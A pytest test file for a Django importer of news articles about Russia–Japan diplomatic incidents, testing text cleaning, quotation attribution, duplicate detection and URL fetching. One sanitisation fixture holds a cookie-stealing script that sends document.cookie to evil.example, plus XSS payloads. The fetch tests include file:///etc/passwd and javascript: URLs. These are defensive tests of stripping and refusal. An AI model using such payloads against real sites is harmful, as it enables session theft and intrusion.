"""The article importer: cleaning, metadata, quotations, duplicates, bad input, fetching,
and ``manage.py import_articles``.

The cases in tests/import_cases/ are articles of the kinds the project imports (wire
reports, ministry statements, republished copies, Russian and Japanese articles, HTML pages
full of navigation and sign-up blocks); each ``NAME.expected.json`` says which paragraphs
must be kept, which boilerplate must go, the metadata, and who said each quotation. Run
``pytest tests/test_importer.py -k score -s`` to print the score table.
"""

from __future__ import annotations

import contextlib
import datetime as dt
import http.server
import json
import socket
import threading
import time
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command

from incidents import importing as importer
from incidents.importing import ImportRejected
from incidents.models import Actor, Event, EventSource, EventType, Source, Statement, Status

CASES_DIR = Path(__file__).parent / "import_cases"
# The cases this importer was written for, all expected to pass. The corpus of issue 13 adds
# cases of real sites' layouts that the importer does not handle yet: those are scored by
# ``manage.py import_score`` (tests/test_import_score.py), not asserted here.
CASES = [
    "embassy_press_release_wrapped",
    "heldout_japantimes_style",
    "heldout_lenta_ru",
    "heldout_pasted_browser_copy",
    "heldout_tass_english",
    "kyodo_reprint_copy",
    "kyodo_wire_protest",
    "mid_statement",
    "mofa_press_release_ja",
    "nhk_style_ja",
    "republished_reuters",
    "ria_ru_article",
    "seed_000_japan_news_reuters",
    "seed_001_menafn",
]


def load_case(name: str) -> tuple[importer.Article, dict]:
    expected = json.loads((CASES_DIR / f"{name}.expected.json").read_text(encoding="utf-8"))
    source = next(p for p in CASES_DIR.glob(f"{name}.*") if not p.name.endswith(".json"))
    return importer.read_file(source.name, source.read_bytes()), expected


def fold(text: str) -> str:
    return " ".join(text.split())


def quote_for(article: importer.Article, startswith: str) -> importer.DraftStatement | None:
    return next((s for s in article.statements if s.text.startswith(startswith)), None)


# --- The cases ------------------------------------------------------------------------------


@pytest.mark.parametrize("name", CASES)
def test_every_article_paragraph_is_kept(name):
    article, expected = load_case(name)
    kept = {fold(p) for p in article.paragraphs}
    missing = [p for p in expected["paragraphs"] if fold(p) not in kept]
    assert not missing


@pytest.mark.parametrize("name", CASES)
def test_boilerplate_is_removed(name):
    article, expected = load_case(name)
    left = [snippet for snippet in expected["boilerplate"] if snippet in article.text]
    assert not left


@pytest.mark.parametrize("name", CASES)
def test_metadata_is_read(name):
    article, expected = load_case(name)
    if "title" in expected:
        assert article.title == expected["title"]
    if "title_startswith" in expected:
        assert article.title.startswith(expected["title_startswith"])
    assert article.title_guessed == expected.get("title_guessed", False)
    assert article.publisher_name == expected.get("publisher", "")
    assert article.credit == expected.get("credit", "")
    assert article.author == expected.get("author", "")
    published = expected.get("published_on")
    assert article.published_on == (dt.date.fromisoformat(published) if published else None)
    assert article.language == expected["language"]
    assert article.kind == expected.get("kind", "news")
    assert article.url == expected.get("url", "")


@pytest.mark.parametrize("name", CASES)
def test_quotations_are_found_with_their_speakers(name):
    article, expected = load_case(name)
    for quote in expected["quotes"]:
        found = quote_for(article, quote["startswith"])
        assert found is not None, quote["startswith"]
        assert found.speaker_name == quote["speaker"], quote["startswith"]
        if "title" in quote:
            assert found.speaker_title == quote["title"], quote["startswith"]


@pytest.mark.parametrize("name", CASES)
def test_no_quotation_is_invented(name):
    article, expected = load_case(name)
    wanted = [q["startswith"] for q in expected["quotes"]]
    extra = [s.text for s in article.statements if not any(s.text.startswith(w) for w in wanted)]
    assert not extra


@pytest.mark.parametrize("name", [n for n in CASES if n.startswith("seed_")])
def test_seed_articles_clean_to_exactly_the_curated_text(name):
    article, expected = load_case(name)
    assert expected["exact_text"]
    assert article.text == "\n\n".join(expected["paragraphs"])


def test_score_table(capsys):
    """The importer's score on every case (printed with -s); all must be perfect."""
    rows, totals = [], [0] * 7
    for name in CASES:
        article, expected = load_case(name)
        kept = {fold(p) for p in article.paragraphs}
        paragraphs = sum(fold(p) in kept for p in expected["paragraphs"])
        removed = sum(snippet not in article.text for snippet in expected["boilerplate"])
        right = 0
        for quote in expected["quotes"]:
            found = quote_for(article, quote["startswith"])
            right += bool(
                found
                and found.speaker_name == quote["speaker"]
                and found.speaker_title == quote.get("title", found.speaker_title)
            )
        wanted = [q["startswith"] for q in expected["quotes"]]
        extra = sum(not any(s.text.startswith(w) for w in wanted) for s in article.statements)
        row = [
            paragraphs,
            len(expected["paragraphs"]),
            removed,
            len(expected["boilerplate"]),
            right,
            len(expected["quotes"]),
            extra,
        ]
        totals = [a + b for a, b in zip(totals, row, strict=True)]
        rows.append((name, row))
    with capsys.disabled():
        print("\n| case | paragraphs kept | boilerplate removed | quotes, right speaker | extra |")
        print("|---|---|---|---|---|")
        for name, r in [*rows, ("TOTAL", totals)]:
            print(f"| {name} | {r[0]}/{r[1]} | {r[2]}/{r[3]} | {r[4]}/{r[5]} | {r[6]} |")
    assert totals[0] == totals[1]
    assert totals[2] == totals[3]
    assert totals[4] == totals[5]
    assert totals[6] == 0


# --- Smaller behaviours ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("13:18 JST, June 10, 2023", dt.date(2023, 6, 10)),
        ("Published: 10 June 2023 08:15 GMT", dt.date(2023, 6, 10)),
        ("Updated Sept. 3, 2022", dt.date(2022, 9, 3)),
        ("07.06.2022, 14:35", dt.date(2022, 6, 7)),
        ("2023年3月28日 18時05分", dt.date(2023, 3, 28)),
        ("令和4年9月27日", dt.date(2022, 9, 27)),
        ("7 июня 2022", dt.date(2022, 6, 7)),
        ("2024-07-12T18:22:00+09:00", dt.date(2024, 7, 12)),
    ],
)
def test_datelines_are_read(line, expected):
    assert importer.is_dateline(line) == expected


def test_a_sentence_with_a_date_is_not_a_dateline():
    assert importer.is_dateline("Russia said on June 10, 2023 that it summoned the envoy.") is None


def test_menafn_wire_id_gives_the_date():
    assert importer.date_from_menafn("MENAFN19022026000045017169ID1110761244") == dt.date(
        2026, 2, 19
    )
    assert importer.date_from_menafn("MENAFN31022026000045017169ID1110761244") is None


@pytest.mark.parametrize(
    ("text", "language"),
    [
        ("Russia summoned the Japanese ambassador on Friday over arms supplies.", "en"),
        ("Россия вызвала посла Японии в МИД в пятницу.", "ru"),
        ("Україна засудила дії Росії щодо Японії та її громадян.", "uk"),
        ("ロシア外務省は日本大使を呼び出し、抗議した。", "ja"),
    ],
)
def test_language_is_detected_from_the_script(text, language):
    assert importer.detect_language(text) == language


def test_html_meta_tags_give_title_publisher_author_and_date():
    html = """<html><head>
      <meta property="og:title" content="Tokyo protests Russian drills">
      <meta property="og:site_name" content="Example Post">
      <meta name="author" content="Jane Roe">
      <meta property="article:published_time" content="2023-04-17T09:00:00Z">
      <link rel="canonical" href="https://example.org/a/1?utm_source=x"></head>
      <body><article><h1>Tokyo protests Russian drills</h1>
      <p>Japan lodged a protest on Monday over Russian military exercises near the islands.</p>
      <p>The exercises involved more than 3,000 troops, according to the defence ministry.</p>
      </article></body></html>"""
    article = importer.parse_article(html)
    assert article.title == "Tokyo protests Russian drills"
    assert article.publisher_name == "Example Post"
    assert article.author == "Jane Roe"
    assert article.published_on == dt.date(2023, 4, 17)
    assert article.url == "https://example.org/a/1"
    assert article.text.startswith("Japan lodged a protest")


def test_hostile_html_is_stored_as_plain_text():
    html = """<!doctype html><html><head><title>T</title>
      <script>document.location='https://evil.example/?c='+document.cookie</script>
      <style>body{background:url(javascript:alert(1))}</style></head><body>
      <article><h1>Russia warns Japan</h1>
      <p onclick="alert(1)">Russia warned Japan on Tuesday over its plans to deploy
        missiles.<img src=x onerror="alert(2)"></p>
      <iframe src="javascript:alert(3)"></iframe>
      <p>The ministry said &lt;script&gt;alert(4)&lt;/script&gt; was not an answer
        to the question.</p>
      <p><a href="javascript:alert(5)">Tokyo said it would respond calmly to the warning
        from Moscow.</a></p>
      <svg><script>alert(6)</script></svg>
      </article></body></html>"""
    article = importer.parse_article(html)
    assert "Russia warned Japan on Tuesday" in article.text
    assert "Tokyo said it would respond calmly" in article.text
    for bad in (
        "<script",
        "</script",
        "<img",
        "onerror",
        "<iframe",
        "javascript:",
        "cookie",
        "<svg",
    ):
        assert bad not in article.text
    assert "<" not in article.text and ">" not in article.text


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "empty"),
        (b"   \n\t  ", "empty"),
        (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20, "PNG image"),
        (b"%PDF-1.7\n" + bytes(range(256)) * 20, "PDF"),
        (b"abc\x00def" * 100, "binary"),
        (bytes(range(1, 32)) * 200, "binary"),
    ],
)
def test_unreadable_files_are_refused_with_a_reason(data, message):
    with pytest.raises(ImportRejected, match=message):
        importer.read_file("article.txt", data)


def test_a_50_megabyte_file_is_refused():
    with pytest.raises(ImportRejected, match=r"too large \(50.0 MB\).*up to 5 MB"):
        importer.read_file("big.html", b"a" * (50 * 1024 * 1024))


def test_only_txt_and_html_files_are_accepted():
    with pytest.raises(ImportRejected, match=r"Only \.txt and \.html"):
        importer.read_file("article.docx", b"Some text that is long enough to be an article.")


def test_a_page_of_nothing_but_boilerplate_is_refused():
    with pytest.raises(ImportRejected, match="No article text"):
        importer.read_file("x.txt", "Share\nTwitter\nSubscribe\n© 2024 Example".encode())


def test_text_in_legacy_encodings_is_decoded():
    text = "Россия вызвала посла Японии в МИД в пятницу, сообщило министерство иностранных дел."
    assert importer.read_file("a.txt", text.encode("cp1251")).text == text
    japanese = "ロシア外務省は十日、日本の大使を呼び出して抗議したと発表した。"
    assert importer.read_file("a.txt", japanese.encode("shift_jis")).text == japanese


def test_hard_wrapped_paragraphs_are_joined():
    text = (
        "Japan's Foreign Ministry said on Monday that it had lodged a protest with\n"
        "Russia over the detention of a Japanese consul in Vladivostok, calling\n"
        "the treatment of the diplomat a clear violation of international law.\n\n"
        "The consul has since been released and has left the country.\n"
    )
    article = importer.parse_article(text)
    assert article.paragraphs[0].startswith("Japan's Foreign Ministry said on Monday")
    assert article.paragraphs[0].endswith("clear violation of international law.")
    assert len(article.paragraphs) == 2


def test_pronoun_is_resolved_to_the_last_person_speaking():
    text = (
        "Foreign Minister Yoshimasa Hayashi told Russian Ambassador Mikhail Galuzin that the "
        "detention was unacceptable.\n\n"
        '"We demand a formal apology from the Russian side," he said.'
    )
    (draft,) = importer.find_quotes(text)
    assert draft.speaker_name == "Yoshimasa Hayashi"
    assert draft.speaker_title == "Foreign Minister"


def test_quote_after_a_colon_paragraph_is_attributed():
    text = "Zakharova said:\n\n“Tokyo has chosen the path of confrontation with our country.”"
    (draft,) = importer.find_quotes(text)
    assert draft.speaker_name == "Zakharova"


def test_a_paragraph_mentioning_a_newsletter_is_kept_but_a_sign_up_prompt_is_not():
    text = (
        "Japan scrambled jets 23 times against Russian aircraft this quarter, officials said.\n"
        "The figures appear in the Defense Ministry's weekly newsletter, published on Friday.\n"
        "Sign up for our free weekly newsletter. You can unsubscribe at any time.\n"
        "Tokyo lodged a protest through diplomatic channels, the ministry added."
    )
    paragraphs = importer.parse_article(text).paragraphs
    assert (
        "The figures appear in the Defense Ministry's weekly newsletter, published on Friday."
        in (paragraphs)
    )
    assert not any("Sign up" in p for p in paragraphs)
    assert len(paragraphs) == 3


def test_a_short_last_paragraph_is_kept_but_trailing_chrome_is_not():
    text = (
        "Russia's Pacific Fleet began drills near the Kuril Islands on Monday, the ministry said.\n"
        "\u201cNo comment,\u201d he said.\n"
        "Tags\nRussia\nJapan\nAGPs"
    )
    assert importer.parse_article(text).paragraphs[-1] == "\u201cNo comment,\u201d he said."


def test_photo_captions_and_advert_markers_are_removed():
    text = (
        "Japan protests Russian drills\n"
        "A Russian warship in the Sea of Japan (Photo: Kyodo)\n"
        "Japan lodged a protest on Monday over Russian drills near the disputed islands.\n"
        "ADVERTISEMENT\nStory continues below advertisement\n"
        "The drills involved more than 3,000 troops, the defence ministry in Moscow said."
    )
    article = importer.parse_article(text)
    assert article.title == "Japan protests Russian drills"
    assert len(article.paragraphs) == 2 and "Photo" not in article.text


def test_scare_quotes_are_not_offered_as_statements():
    text = 'Russia put Japan on its "unfriendly countries" list on Monday, the agency said.'
    assert importer.find_quotes(text) == []


# --- Actors ---------------------------------------------------------------------------------


@pytest.mark.django_db
def test_speakers_and_publisher_are_matched_to_existing_actors_by_any_name(make):
    ministry = make.actor(
        "Ministry of Foreign Affairs of the Russian Federation",
        kind=Actor.Kind.ORGANISATION,
        aliases="Russian Foreign Ministry\nМИД России",
    )
    kozuki = make.actor("Toyohisa Kozuki", name_ja="香月豊久")
    outlet = make.actor(
        "The Japan News (The Yomiuri Shimbun)", kind=Actor.Kind.MEDIA, aliases="The Japan News"
    )
    article, _ = load_case("seed_000_japan_news_reuters")
    importer.match_actors(article)
    assert article.publisher == outlet
    assert [s.speaker for s in article.statements] == [ministry, kozuki, kozuki]


@pytest.mark.django_db
def test_russian_surname_in_another_case_matches_the_actor(make):
    zakharova = make.actor("Maria Zakharova", name_ru="Мария Захарова")
    index = importer.ActorIndex()
    assert index.match("Захаровой") == zakharova
    assert index.match("Zakharova") == zakharova
    assert index.match("Zakharova", Actor.Kind.ORGANISATION) is None


# --- Duplicates -----------------------------------------------------------------------------


def _saved(name: str, url: str) -> Source:
    article, _ = load_case(name)
    article.url = url
    return importer.save_import(article).source


@pytest.mark.django_db
def test_same_url_with_tracking_parameters_is_a_duplicate():
    source = _saved("kyodo_wire_protest", "https://english.kyodonews.net/news/2023/03/a1")
    article = importer.parse_article("Completely different text about something else entirely.")
    article.url = "https://english.kyodonews.net/news/2023/03/a1/?utm_source=x#top"
    article.url = importer.normalise_url(article.url)
    assert importer.find_duplicate(article) == source


@pytest.mark.django_db
def test_republished_copy_with_other_boilerplate_is_a_duplicate():
    source = _saved("kyodo_wire_protest", "https://english.kyodonews.net/news/2023/03/a1")
    copy, _ = load_case("kyodo_reprint_copy")
    assert copy.url != source.url
    assert importer.find_duplicate(copy) == source


@pytest.mark.django_db
def test_slightly_edited_text_is_a_duplicate_but_another_article_is_not():
    source = _saved("republished_reuters", "https://example.org/expel")
    edited, _ = load_case("republished_reuters")
    edited.url = "https://other.example/expel-copy"
    edited.text = edited.text.replace("Wednesday", "Wed.").replace("May 10", "10 May")
    assert importer.find_duplicate(edited) == source
    other, _ = load_case("heldout_japantimes_style")
    assert importer.find_duplicate(other) is None


@pytest.mark.django_db
def test_japanese_copy_is_recognised_by_its_characters():
    source = _saved("nhk_style_ja", "https://www3.nhk.or.jp/news/html/20230328/k1.html")
    copy, _ = load_case("nhk_style_ja")
    copy.url = "https://news.example.jp/a/1"
    copy.text = copy.text.replace("政府は引き続き", "政府は今後も引き続き")
    assert importer.find_duplicate(copy) == source


@pytest.mark.django_db
def test_seed_article_is_recognised_as_already_recorded(seeded):
    article, _ = load_case("seed_001_menafn")
    existing = importer.find_duplicate(article)
    assert existing is not None
    assert existing.title == "Russia Issues Warning to Japan Over NATO Arms Deal for Ukraine"


# --- Saving ---------------------------------------------------------------------------------


@pytest.mark.django_db
def test_import_creates_a_draft_event_with_confirmed_statements(make):
    matsuno = make.actor("Hirokazu Matsuno")
    article, _ = load_case("kyodo_wire_protest")
    article.url = "https://english.kyodonews.net/news/2023/03/a1"
    importer.match_actors(article)
    confirmed = [
        importer.ConfirmedStatement(text=s.text, speaker=s.speaker, speaker_title=s.speaker_title)
        for s in article.statements
    ]
    saved = importer.save_import(
        article,
        statements=confirmed,
        new_event=importer.NewEvent(
            title="Japan protests Russian missile drills",
            event_type=EventType.objects.get(slug="diplomatic_protest"),
            date=article.published_on,
        ),
    )
    assert saved.event.status == Status.DRAFT
    assert saved.event.date_lower == dt.date(2023, 3, 29)
    assert EventSource.objects.filter(event=saved.event, source=saved.source).exists()
    assert [(s.speaker, s.speaker_title) for s in saved.statements] == [
        (matsuno, "Chief Cabinet Secretary"),
        (matsuno, "Chief Cabinet Secretary"),
    ]
    assert saved.source.text == article.text
    assert saved.source.published_on == dt.date(2023, 3, 29)


@pytest.mark.django_db
def test_a_failing_statement_leaves_nothing_half_saved():
    article, _ = load_case("kyodo_wire_protest")
    article.url = "https://english.kyodonews.net/news/2023/03/a1"
    before = (Source.objects.count(), Event.objects.count(), Actor.objects.count())
    with pytest.raises(ImportRejected, match="Choose who said"):
        importer.save_import(
            article,
            new_publisher_name="Kyodo News Wire Desk",
            statements=[
                importer.ConfirmedStatement(text="First quote.", new_speaker_name="Someone New"),
                importer.ConfirmedStatement(text="Second quote without a speaker."),
            ],
            new_event=importer.NewEvent(
                "An event", EventType.objects.get(slug="statement"), dt.date(2023, 3, 29)
            ),
        )
    assert (Source.objects.count(), Event.objects.count(), Actor.objects.count()) == before
    assert not Statement.objects.exists()


@pytest.mark.django_db
def test_saving_an_already_recorded_article_is_refused():
    source = _saved("kyodo_wire_protest", "https://english.kyodonews.net/news/2023/03/a1")
    again, _ = load_case("kyodo_wire_protest")
    again.url = "https://other.example/copy"
    with pytest.raises(importer.DuplicateSource) as caught:
        importer.save_import(again)
    assert caught.value.source == source
    assert Source.objects.count() == 1


# --- Fetching -------------------------------------------------------------------------------

PAGE = b"""<!doctype html><html><head><title>Fetched</title>
<meta property="og:title" content="Russia summons Japanese envoy">
<meta property="article:published_time" content="2023-06-09"></head><body><article>
<h1>Russia summons Japanese envoy</h1>
<p>Russia's foreign ministry said on Friday that it had summoned the Japanese ambassador.</p>
<p>"This step will lead to an escalation," the ministry said in a statement on its website.</p>
</article></body></html>"""


class _Handler(http.server.BaseHTTPRequestHandler):
    routes: dict = {}

    def do_GET(self):
        status, headers, body, delay = self.routes.get(self.path, (404, {}, b"missing", 0))
        if delay:
            time.sleep(delay)
        self.send_response(status)
        for key, value in {"Content-Length": str(len(body)), **headers}.items():
            self.send_header(key, value)
        self.end_headers()
        with contextlib.suppress(BrokenPipeError, ConnectionResetError):
            self.wfile.write(body)

    def log_message(self, *args):
        pass


@pytest.fixture
def local_site(settings):
    """A web server on 127.0.0.1 (there is no internet here), allowed as a fetch target."""
    settings.IMPORT_ALLOW_PRIVATE_HOSTS = True
    _Handler.routes = {
        "/article": (200, {"Content-Type": "text/html; charset=utf-8"}, PAGE, 0),
        "/image": (200, {"Content-Type": "image/png"}, b"\x89PNG....", 0),
        "/huge": (
            200,
            {"Content-Type": "text/html", "Content-Length": str(60 * 1024 * 1024)},
            b"",
            0,
        ),
        "/slow": (200, {"Content-Type": "text/html"}, PAGE, 2),
        "/gone": (404, {"Content-Type": "text/html"}, b"not here", 0),
        "/to-js": (302, {"Location": "javascript:alert(1)"}, b"", 0),
        "/to-ftp": (302, {"Location": "ftp://127.0.0.1/file.txt"}, b"", 0),
        "/moved": (301, {"Location": "/article"}, b"", 0),
    }
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def test_a_page_is_fetched_cleaned_and_attributed(local_site):
    article = importer.read_url(f"{local_site}/article")
    assert article.title == "Russia summons Japanese envoy"
    assert article.published_on == dt.date(2023, 6, 9)
    assert article.url == f"{local_site}/article"
    assert article.statements[0].speaker_name == "Russian Foreign Ministry"


def test_a_canonical_address_on_the_same_site_is_preferred():
    html = """<html><head><link rel="canonical" href="https://www.example.org/news/1">
      </head><body><article><p>Russia warned Japan on Tuesday over its missile plans.</p>
      <p>Tokyo said the deployment was purely defensive in nature.</p></article></body></html>"""
    same = importer.parse_article(html, url="https://amp.example.org/news/1?outputType=amp")
    assert same.url == "https://www.example.org/news/1"
    other = importer.parse_article(html, url="https://copies.example.net/a/77")
    assert other.url == "https://copies.example.net/a/77"


def test_redirects_are_followed_to_the_final_address(local_site):
    assert importer.read_url(f"{local_site}/moved").url == f"{local_site}/article"


@pytest.mark.parametrize(
    ("path", "message"),
    [
        ("/image", "sent image/png, not a web page"),
        ("/huge", r"too large \(60.0 MB\)"),
        ("/gone", "answered “404"),
        ("/to-js", "Only http:// and https://"),
        ("/to-ftp", "Only http:// and https://"),
    ],
)
def test_bad_answers_are_refused_with_a_reason(local_site, path, message):
    with pytest.raises(ImportRejected, match=message):
        importer.read_url(local_site + path)


def test_a_slow_server_times_out(local_site):
    with pytest.raises(ImportRejected, match=r"no answer within 0.5 seconds"):
        importer.fetch_url(f"{local_site}/slow", timeout=0.5)


def test_an_unreachable_server_says_the_network_may_be_down(settings):
    settings.IMPORT_ALLOW_PRIVATE_HOSTS = True
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]  # closed as soon as the block ends: nobody listens
    with pytest.raises(
        ImportRejected, match=r"Could not reach 127\.0\.0\.1.*network may be unavailable"
    ):
        importer.read_url(f"http://127.0.0.1:{port}/article")


def test_an_unknown_host_says_the_network_may_be_down():
    with pytest.raises(ImportRejected, match=r"Could not reach no-such-host\.invalid.*unavailable"):
        importer.read_url("https://no-such-host.invalid/article")


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(document.cookie)",
        "file:///etc/passwd",
        "ftp://example.org/a",
        "data:text/html,<p>x",
    ],
)
def test_only_web_addresses_are_fetched(url):
    with pytest.raises(ImportRejected, match="Only http:// and https://"):
        importer.read_url(url)


def test_the_server_never_fetches_its_own_network(local_site, settings):
    settings.IMPORT_ALLOW_PRIVATE_HOSTS = False
    with pytest.raises(ImportRejected, match="private or local address"):
        importer.read_url(f"{local_site}/article")


# --- manage.py import_articles --------------------------------------------------------------


def _write(directory: Path, name: str, content: str | bytes) -> Path:
    path = directory / name
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content, encoding="utf-8")
    return path


def _case_text(name: str) -> str:
    return next(p for p in CASES_DIR.glob(f"{name}.*") if not p.name.endswith(".json")).read_text(
        encoding="utf-8"
    )


@pytest.mark.django_db
def test_command_imports_files_and_a_rerun_creates_nothing(tmp_path, capsys):
    _write(
        tmp_path,
        "kyodo.txt",
        "URL: https://english.kyodonews.net/news/2023/03/a1\n\n" + _case_text("kyodo_wire_protest"),
    )
    _write(tmp_path, "mid.html", _case_text("mid_statement"))
    _write(tmp_path, "ria.txt", _case_text("ria_ru_article"))
    call_command("import_articles", str(tmp_path / "kyodo.txt"), str(tmp_path / "mid.html"))
    out = capsys.readouterr().out
    assert "2 file(s): 2 created, 0 already recorded (skipped), 0 failed." in out
    assert "2 quotation(s) to confirm at /admin/incidents/source/" in out
    assert Source.objects.count() == 2
    kyodo = Source.objects.get(url="https://english.kyodonews.net/news/2023/03/a1")
    assert kyodo.title == "Japan protests Russian missile drills near disputed Kuril islands"
    assert "URL:" not in kyodo.text and "Related coverage" not in kyodo.text
    assert not Event.objects.exists() and not Statement.objects.exists()

    call_command("import_articles", str(tmp_path / "kyodo.txt"), str(tmp_path / "mid.html"))
    out = capsys.readouterr().out
    assert "2 file(s): 0 created, 2 already recorded (skipped), 0 failed." in out
    assert Source.objects.count() == 2

    call_command("import_articles", str(tmp_path / "ria.txt"), url="https://ria.ru/20220607/a.html")
    assert Source.objects.filter(url="https://ria.ru/20220607/a.html", language="ru").exists()


@pytest.mark.django_db
def test_command_fails_with_a_reason_for_each_bad_file(tmp_path, capsys):
    good = _write(tmp_path, "good.html", _case_text("mid_statement"))
    empty = _write(tmp_path, "empty.txt", b"")
    binary = _write(tmp_path, "photo.html", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 10)
    no_url = _write(tmp_path, "nourl.txt", _case_text("nhk_style_ja"))
    huge = tmp_path / "huge.html"
    with huge.open("wb") as handle:  # sparse: 50 MB on paper, nothing read into memory
        handle.truncate(50 * 1024 * 1024)
    missing = tmp_path / "missing.txt"
    with pytest.raises(CommandError) as caught:
        call_command(
            "import_articles", *(str(p) for p in (good, empty, binary, no_url, huge, missing))
        )
    message = str(caught.value)
    assert message.startswith("5 file(s) could not be imported:")
    assert f"{empty}: The file is empty." in message
    assert f"{binary}: This looks like a PNG image" in message
    assert f"{no_url}: no URL found" in message
    assert f"{huge}: The file is too large (50.0 MB)" in message
    assert f"{missing}: no such file" in message
    assert "1 created, 0 already recorded (skipped), 5 failed." in capsys.readouterr().out
    assert list(Source.objects.values_list("url", flat=True)) == [
        "https://mid.ru/en/foreign_policy/news/1917342"
    ]


@pytest.mark.django_db
def test_command_reads_a_directory_and_a_dry_run_saves_nothing(tmp_path, capsys):
    _write(tmp_path, "a.html", _case_text("republished_reuters"))
    _write(tmp_path, "notes.md", "not an article")
    call_command("import_articles", str(tmp_path), dry_run=True)
    out = capsys.readouterr().out
    assert "1 file(s): 1 checked" in out
    assert (
        "“Russia to expel eight Japanese diplomats in tit-for-tat move”, World Affairs Digest"
        in out
    )
    assert not Source.objects.exists()


def test_command_url_option_needs_a_single_file(tmp_path):
    first = _write(tmp_path, "a.txt", "x")
    second = _write(tmp_path, "b.txt", "y")
    with pytest.raises(CommandError, match="single file"):
        call_command("import_articles", str(first), str(second), url="https://example.org/a")
